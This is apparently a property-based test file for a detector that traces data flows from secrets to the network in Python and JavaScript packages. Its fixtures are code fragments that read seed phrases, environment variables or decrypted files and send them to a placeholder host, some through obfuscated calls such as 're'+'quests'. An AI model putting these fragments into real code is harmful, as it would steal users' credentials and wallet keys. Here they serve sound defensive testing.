import fc from 'fast-check';
import { expect, test } from 'vitest';
import { analyseFlow } from '../flow/analyseFlow.ts';
import { lowerSources } from '../flow/testing/analyseSources.ts';
import { createFlowInterest } from './flowInterest.ts';
import { interestingFiles } from './interestingFiles.ts';

const finder = createFlowInterest();

function needed(files: Readonly<Record<string, string>>): Record<string, string> {
  const all = Object.entries(files).map(([path, text]) => {
    const bytes = Buffer.from(text);
    const language = path.endsWith('.py') ? ('python' as const) : ('javascript' as const);
    return { path, text, bytes, language, interest: finder.interestOf(bytes, language) };
  });
  return Object.fromEntries(interestingFiles(finder, all).map(({ path, text }) => [path, text]));
}

/** Ways for the bytes of a key to the network, cut into files that import each other. */
const python = {
  source: [
    'from mnemonic import Mnemonic\ndef key(words): return Mnemonic("english").to_seed(words)\n',
    'import os\ndef key(_): return os.environ\n',
    'from cryptography.fernet import Fernet\ndef key(k): return Fernet(k).decrypt(open("x").read())\n',
  ],
  middle: [
    'def pass_on(x): return x[::-1]\n',
    'class Box:\n  pass\nbox = Box()\ndef pass_on(x):\n  box.x = x\n  return box.x\n',
  ],
  sink: [
    'import requests\ndef send(x): requests.post("https://example.invalid", data=x)\n',
    'm = __import__("re" + "quests")\ndef send(x): m.post("https://example.invalid", data=x)\n',
    'import urllib.request as u\ndef send(x): getattr(u, "url" + "open")("https://example.invalid/" + x)\n',
    'import socket\ndef send(x): socket.getaddrinfo(x + ".example.invalid", 1)\n',
  ],
};
const javascript = {
  source: [
    "import { mnemonicToSeedSync } from 'bip39';\nexport const key = (words) => mnemonicToSeedSync(words);\n",
    'export const key = () => process.env;\n',
  ],
  middle: [
    'export const passOn = (x) => x.split("").reverse().join("");\n',
    'const box = {};\nexport function passOn(x) { box.x = x; return box.x; }\n',
  ],
  sink: [
    "export const send = (x) => fetch('https://example.invalid', { body: x });\n",
    "export const send = (x) => globalThis['fe' + 'tch']('https://example.invalid', { body: x });\n",
    "import h from 'node:https';\nexport const send = (x) => h.request('https://example.invalid').write(x);\n",
    "export const send = (x) => require('ht' + 'tps').get('https://example.invalid/' + x);\n",
  ],
};

function packages(): fc.Arbitrary<Record<string, string>> {
  const one = (of: typeof python, name: 'python' | 'javascript'): fc.Arbitrary<Record<string, string>> =>
    fc
      .record({
        source: fc.constantFrom(...of.source, 'x = 1\n'),
        middle: fc.constantFrom(...of.middle),
        sink: fc.constantFrom(...of.sink, 'y = 1\n'),
      })
      .map(({ source, middle, sink }): Record<string, string> =>
        name === 'python'
          ? {
              'pkg/__init__.py': 'from .main import run\n',
              'pkg/origin.py': source,
              'pkg/middle.py': middle,
              'pkg/outlet.py': sink,
              'pkg/main.py':
                'from .origin import key\nfrom . import middle\nfrom .outlet import send\ndef run(w): send(middle.pass_on(key(w)))\n',
              'pkg/apart.py': 'def alone(): return 1\n',
            }
          : {
              'index.js': "export { run } from './main.js';\n",
              'origin.js': source,
              'middle.js': middle,
              'outlet.js': sink,
              'main.js':
                "import { key } from './origin.js';\nimport * as middle from './middle.js';\nimport { send } from './outlet.js';\nexport const run = (w) => send(middle.passOn(key(w)));\n",
              'apart.js': 'export const alone = () => 1;\n',
            },
      );
  return fc.oneof(one(python, 'python'), one(javascript, 'javascript'));
}

test('what the flow analysis finds without the prefilter it finds with it', async () => {
  let flows = 0;
  let left = 0;
  await fc.assert(
    fc.asyncProperty(packages(), async (files) => {
      const kept = needed(files);
      const whole = analyseFlow(await lowerSources(files));
      const less = analyseFlow(await lowerSources(kept));
      expect(less.flows).toEqual(whole.flows);
      expect(less.uses).toEqual(whole.uses);
      flows += whole.flows.length;
      left += Object.keys(files).length - Object.keys(kept).length;
    }),
    { numRuns: 200 },
  );
  // The property says nothing where there is never a flow or never a file left out.
  expect(flows).toBeGreaterThan(20);
  expect(left).toBeGreaterThan(20);
});
